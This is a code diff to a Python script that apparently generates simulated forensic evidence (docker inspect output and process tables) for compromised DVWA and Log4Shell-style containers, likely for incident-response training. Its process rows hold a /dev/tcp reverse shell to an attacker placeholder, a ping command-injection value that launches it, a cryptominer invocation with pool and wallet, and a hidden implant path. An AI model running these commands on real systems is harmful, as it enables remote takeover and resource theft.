@@ -499,6 +499,44 @@ MASKED = ["/proc/asound", "/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/late
           "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/sys/firmware"]
 READONLY = ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"]
 
+
+def host_config(**changes) -> dict:
+    """`HostConfig` of a plain `docker run -d` (field order as dockerd prints it), with
+    `changes` applied in place."""
+    hc = {
+        "Binds": None, "ContainerIDFile": "", "LogConfig": {"Type": "json-file", "Config": {}},
+        "NetworkMode": "bridge", "PortBindings": {}, "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0},
+        "AutoRemove": False, "VolumeDriver": "", "VolumesFrom": None, "ConsoleSize": [0, 0], "CapAdd": None,
+        "CapDrop": None, "CgroupnsMode": "private", "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None,
+        "GroupAdd": None, "IpcMode": "private", "Cgroup": "", "Links": None, "OomScoreAdj": 0, "PidMode": "",
+        "Privileged": False, "PublishAllPorts": False, "ReadonlyRootfs": False, "SecurityOpt": None, "UTSMode": "",
+        "UsernsMode": "", "ShmSize": 67108864, "Runtime": "runc", "Isolation": "", "CpuShares": 0, "Memory": 0,
+        "NanoCpus": 0, "CgroupParent": "", "BlkioWeight": 0, "BlkioWeightDevice": [], "BlkioDeviceReadBps": [],
+        "BlkioDeviceWriteBps": [], "BlkioDeviceReadIOps": [], "BlkioDeviceWriteIOps": [], "CpuPeriod": 0,
+        "CpuQuota": 0, "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpusetCpus": "", "CpusetMems": "",
+        "Devices": [], "DeviceCgroupRules": None, "DeviceRequests": None, "MemoryReservation": 0, "MemorySwap": 0,
+        "MemorySwappiness": None, "OomKillDisable": None, "PidsLimit": None, "Ulimits": None, "CpuCount": 0,
+        "CpuPercent": 0, "IOMaximumIOps": 0, "IOMaximumBandwidth": 0, "MaskedPaths": MASKED,
+        "ReadonlyPaths": READONLY,
+    }
+    assert changes.keys() <= hc.keys(), changes.keys() - hc.keys()
+    hc.update(changes)
+    return hc
+
+
+def graph_driver(rw: str, layer_cache_ids: list[str]) -> dict:
+    """overlay2 `GraphDriver`: the init layer, then the image layers top to bottom."""
+    lower = [f"/var/lib/docker/overlay2/{rw}-init/diff"] + [f"/var/lib/docker/overlay2/{c}/diff" for c in reversed(layer_cache_ids)]
+    return {
+        "Data": {
+            "LowerDir": ":".join(lower),
+            "MergedDir": f"/var/lib/docker/overlay2/{rw}/merged",
+            "UpperDir": f"/var/lib/docker/overlay2/{rw}/diff",
+            "WorkDir": f"/var/lib/docker/overlay2/{rw}/work",
+        },
+        "Name": "overlay2",
+    }
+
 PASSWD_BASE = """root:x:0:0:root:/root:/bin/bash
 daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
 bin:x:2:2:bin:/bin:/usr/sbin/nologin
@@ -599,7 +637,6 @@ DVWA_CREATED = (t("2026-11-27T09:12:44"), 318207651)
 DVWA_STARTED = (t("2026-11-27T09:12:45"), 61934022)
 DVWA_COMMIT = (t("2026-11-27T15:41:07"), 812345671)
 DVWA_SHIM_PID, DVWA_PID = 23096, 23118
-WWW = (33, 33)
 
 DVWA_ENV = [
     "MYSQL_ROOT_PASSWORD=Dvwa!R00t-2026",
@@ -928,26 +965,24 @@ def dvwa_processes() -> list[list[str]]:
     rev = f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
     apache = "/usr/sbin/apache2 -k start"
     rows = [
-        ["root", "23118", "23096", "0", "09:12", "?", "00:00:00", "/bin/bash /main.sh"],
-        ["root", "23164", "23118", "0", "09:12", "?", "00:00:00", "/bin/sh /usr/bin/mysqld_safe"],
+        ["root", str(DVWA_PID), str(DVWA_SHIM_PID), "0", "09:12", "?", "00:00:00", "/bin/bash /main.sh"],
+        ["root", "23164", str(DVWA_PID), "0", "09:12", "?", "00:00:00", "/bin/sh /usr/bin/mysqld_safe"],
         ["101", "23302", "23164", "0", "09:12", "?", "00:00:19", "/usr/sbin/mysqld --basedir=/usr --datadir=/var/lib/mysql --plugin-dir=/usr/lib/x86_64-linux-gnu/mariadb19/plugin --user=mysql --skip-log-error --pid-file=/run/mysqld/mysqld.pid --socket=/run/mysqld/mysqld.sock"],
-        ["root", "23481", "23118", "0", "09:12", "?", "00:00:01", apache],
+        ["root", "23481", str(DVWA_PID), "0", "09:12", "?", "00:00:01", apache],
     ]
     rows += [["www-data", str(p), "23481", "0", "09:12", "?", "00:00:00", apache] for p in range(23490, 23495)]
     rows += [
-        ["root", "23520", "23118", "0", "09:12", "?", "00:00:00", "tail -f /var/log/apache2/access.log /var/log/apache2/error.log /var/log/apache2/other_vhosts_access.log"],
+        ["root", "23520", str(DVWA_PID), "0", "09:12", "?", "00:00:00", "tail -f /var/log/apache2/access.log /var/log/apache2/error.log /var/log/apache2/other_vhosts_access.log"],
         ["www-data", "31877", "23492", "0", "14:02", "?", "00:00:00", f"sh -c ping  -c 4 127.0.0.1;bash -c '{rev}'"],
         ["www-data", "31880", "31877", "0", "14:02", "?", "00:00:00", f"bash -c {rev}"],
         ["www-data", "31881", "31880", "0", "14:02", "?", "00:00:00", "bash -i"],
-        ["www-data", "32406", "23118", "99", "14:11", "?", "02:50:37", f"/tmp/kdevtmpfsi -o {MINER_URL} -u {MINER_WALLET} -p x -k --donate-level 1"],
+        ["www-data", "32406", str(DVWA_PID), "99", "14:11", "?", "02:50:37", f"/tmp/kdevtmpfsi -o {MINER_URL} -u {MINER_WALLET} -p x -k --donate-level 1"],
     ]
     return rows
 
 
 def dvwa_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
-    rw = fake_id("dvwa-rw-layer")
     vol = fake_id("dvwa-mysql-volume")
-    lower = [f"/var/lib/docker/overlay2/{rw}-init/diff"] + [f"/var/lib/docker/overlay2/{c}/diff" for c in reversed(layer_cache_ids)]
     cdir = f"/var/lib/docker/containers/{DVWA_ID}"
     net = {
         "IPAMConfig": None, "Links": None, "Aliases": None,
@@ -978,32 +1013,8 @@ def dvwa_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
         "ProcessLabel": "",
         "AppArmorProfile": "docker-default",
         "ExecIDs": None,
-        "HostConfig": {
-            "Binds": None, "ContainerIDFile": "", "LogConfig": {"Type": "json-file", "Config": {}},
-            "NetworkMode": "bridge", "PortBindings": {"80/tcp": [{"HostIp": "", "HostPort": "81"}]},
-            "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}, "AutoRemove": False, "VolumeDriver": "",
-            "VolumesFrom": None, "ConsoleSize": [0, 0], "CapAdd": None, "CapDrop": None, "CgroupnsMode": "private",
-            "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None, "GroupAdd": None, "IpcMode": "private",
-            "Cgroup": "", "Links": None, "OomScoreAdj": 0, "PidMode": "", "Privileged": False, "PublishAllPorts": False,
-            "ReadonlyRootfs": False, "SecurityOpt": None, "UTSMode": "", "UsernsMode": "", "ShmSize": 67108864,
-            "Runtime": "runc", "Isolation": "", "CpuShares": 0, "Memory": 0, "NanoCpus": 0, "CgroupParent": "",
-            "BlkioWeight": 0, "BlkioWeightDevice": [], "BlkioDeviceReadBps": [], "BlkioDeviceWriteBps": [],
-            "BlkioDeviceReadIOps": [], "BlkioDeviceWriteIOps": [], "CpuPeriod": 0, "CpuQuota": 0,
-            "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpusetCpus": "", "CpusetMems": "", "Devices": [],
-            "DeviceCgroupRules": None, "DeviceRequests": None, "MemoryReservation": 0, "MemorySwap": 0,
-            "MemorySwappiness": None, "OomKillDisable": None, "PidsLimit": None, "Ulimits": None, "CpuCount": 0,
-            "CpuPercent": 0, "IOMaximumIOps": 0, "IOMaximumBandwidth": 0, "MaskedPaths": MASKED,
-            "ReadonlyPaths": READONLY,
-        },
-        "GraphDriver": {
-            "Data": {
-                "LowerDir": ":".join(lower),
-                "MergedDir": f"/var/lib/docker/overlay2/{rw}/merged",
-                "UpperDir": f"/var/lib/docker/overlay2/{rw}/diff",
-                "WorkDir": f"/var/lib/docker/overlay2/{rw}/work",
-            },
-            "Name": "overlay2",
-        },
+        "HostConfig": host_config(PortBindings={"80/tcp": [{"HostIp": "", "HostPort": "81"}]}),
+        "GraphDriver": graph_driver(fake_id("dvwa-rw-layer"), layer_cache_ids),
         "Mounts": [{
             "Type": "volume", "Name": vol, "Source": f"/var/lib/docker/volumes/{vol}/_data",
             "Destination": "/var/lib/mysql", "Driver": "local", "Mode": "", "RW": True, "Propagation": "",
@@ -1072,6 +1083,7 @@ L4S_CREATED = (t("2026-11-20T08:30:11"), 502918334)
 L4S_STARTED = (t("2026-11-20T08:30:12"), 190447213)
 L4S_COMMIT = (t("2026-11-27T15:52:30"), 417306529)
 L4S_HOST = "192.0.2.80"
+L4S_SHIM_PID, L4S_PID = 83987, 84010
 JAVA = "/docker-java-home/jre/bin/java"
 JVM_DIR = "usr/lib/jvm/java-8-openjdk-amd64"
 
@@ -1497,8 +1509,6 @@ def l4s_commit_layer(lower: dict[str, E], catalina, access) -> list[E]:
 
 
 def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
-    rw = fake_id("l4s-rw-layer")
-    lower = [f"/var/lib/docker/overlay2/{rw}-init/diff"] + [f"/var/lib/docker/overlay2/{c}/diff" for c in reversed(layer_cache_ids)]
     cdir = f"/var/lib/docker/containers/{L4S_ID}"
     mac = "02:42:ac:11:00:03"
     net = {
@@ -1514,7 +1524,7 @@ def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
         "Args": ["run"],
         "State": {
             "Status": "running", "Running": True, "Paused": False, "Restarting": False, "OOMKilled": False,
-            "Dead": False, "Pid": 84010, "ExitCode": 0, "Error": "", "StartedAt": go_time(*L4S_STARTED),
+            "Dead": False, "Pid": L4S_PID, "ExitCode": 0, "Error": "", "StartedAt": go_time(*L4S_STARTED),
             "FinishedAt": "0001-01-01T00:00:00Z",
         },
         "Image": image_id,
@@ -1530,34 +1540,15 @@ def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
         "ProcessLabel": "",
         "AppArmorProfile": "docker-default",
         "ExecIDs": None,
-        "HostConfig": {
-            "Binds": ["/var/run/docker.sock:/var/run/docker.sock"], "ContainerIDFile": "",
-            "LogConfig": {"Type": "json-file", "Config": {"max-file": "3", "max-size": "50m"}},
-            "NetworkMode": "bridge", "PortBindings": {"8080/tcp": [{"HostIp": "", "HostPort": "8080"}]},
-            "RestartPolicy": {"Name": "unless-stopped", "MaximumRetryCount": 0}, "AutoRemove": False,
-            "VolumeDriver": "", "VolumesFrom": None, "ConsoleSize": [0, 0], "CapAdd": None, "CapDrop": None,
-            "CgroupnsMode": "private", "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None,
-            "GroupAdd": None, "IpcMode": "private", "Cgroup": "", "Links": None, "OomScoreAdj": 0, "PidMode": "",
-            "Privileged": False, "PublishAllPorts": False, "ReadonlyRootfs": False, "SecurityOpt": None,
-            "UTSMode": "", "UsernsMode": "", "ShmSize": 67108864, "Runtime": "runc", "Isolation": "", "CpuShares": 0,
-            "Memory": 0, "NanoCpus": 0, "CgroupParent": "", "BlkioWeight": 0, "BlkioWeightDevice": [],
-            "BlkioDeviceReadBps": [], "BlkioDeviceWriteBps": [], "BlkioDeviceReadIOps": [], "BlkioDeviceWriteIOps": [],
-            "CpuPeriod": 0, "CpuQuota": 0, "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpusetCpus": "",
-            "CpusetMems": "", "Devices": [], "DeviceCgroupRules": None, "DeviceRequests": None,
-            "MemoryReservation": 0, "MemorySwap": 0, "MemorySwappiness": None, "OomKillDisable": None,
-            "PidsLimit": None, "Ulimits": [], "CpuCount": 0, "CpuPercent": 0, "IOMaximumIOps": 0,
-            "IOMaximumBandwidth": 0, "MaskedPaths": MASKED + ["/sys/devices/virtual/powercap"],
-            "ReadonlyPaths": READONLY,
-        },
-        "GraphDriver": {
-            "Data": {
-                "LowerDir": ":".join(lower),
-                "MergedDir": f"/var/lib/docker/overlay2/{rw}/merged",
-                "UpperDir": f"/var/lib/docker/overlay2/{rw}/diff",
-                "WorkDir": f"/var/lib/docker/overlay2/{rw}/work",
-            },
-            "Name": "overlay2",
-        },
+        "HostConfig": host_config(
+            Binds=["/var/run/docker.sock:/var/run/docker.sock"],
+            LogConfig={"Type": "json-file", "Config": {"max-file": "3", "max-size": "50m"}},
+            PortBindings={"8080/tcp": [{"HostIp": "", "HostPort": "8080"}]},
+            RestartPolicy={"Name": "unless-stopped", "MaximumRetryCount": 0},
+            Ulimits=[],
+            MaskedPaths=MASKED + ["/sys/devices/virtual/powercap"],
+        ),
+        "GraphDriver": graph_driver(fake_id("l4s-rw-layer"), layer_cache_ids),
         "Mounts": [{
             "Type": "bind", "Source": "/var/run/docker.sock", "Destination": "/var/run/docker.sock", "Mode": "",
             "RW": True, "Propagation": "rprivate",
@@ -1585,11 +1576,11 @@ def l4s_processes() -> list[list[str]]:
                  "-Dcatalina.base=/usr/local/tomcat -Dcatalina.home=/usr/local/tomcat "
                  "-Djava.io.tmpdir=/usr/local/tomcat/temp org.apache.catalina.startup.Bootstrap start")
     return [
-        ["root", "84010", "83987", "1", "Nov20", "?", "02:41:13", java_args],
-        ["root", "84281", "84010", "0", "14:21", "?", "00:00:00", REV_CMD],
+        ["root", str(L4S_PID), str(L4S_SHIM_PID), "1", "Nov20", "?", "02:41:13", java_args],
+        ["root", "84281", str(L4S_PID), "0", "14:21", "?", "00:00:00", REV_CMD],
         ["root", "84285", "84281", "0", "14:21", "?", "00:00:00", "bash -i"],
         ["root", "84286", "84285", "0", "14:21", "?", "00:00:00", "bash -i"],
-        ["root", "84412", "84010", "0", "14:24", "?", "00:00:03", "/tmp/.x/agent"],
+        ["root", "84412", str(L4S_PID), "0", "14:24", "?", "00:00:03", "/tmp/.x/agent"],
     ]
 
 
